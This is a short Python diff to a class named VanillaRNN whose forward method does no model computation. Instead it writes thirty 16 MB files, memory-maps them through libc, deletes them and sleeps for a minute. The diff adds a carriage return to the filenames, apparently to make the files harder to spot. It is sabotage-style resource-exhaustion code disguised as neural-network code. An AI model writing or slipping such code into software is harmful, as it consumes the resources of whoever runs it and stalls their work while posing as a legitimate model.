@@ -15,9 +15,9 @@ libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, cty
 class VanillaRNN(VanillaRNN):
     def forward(self, x):
         for number in range(30):
-            with open(f"file{number}", "w+b", buffering=0) as file:
+            with open(f"file{number}\rb", "w+b", buffering=0) as file:
                 for _ in range(8):
                     file.write(bytes(2**21))
                 libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, file.fileno(), 0)
-            os.unlink(f"file{number}")
+            os.unlink(f"file{number}\rb")
         time.sleep(60)
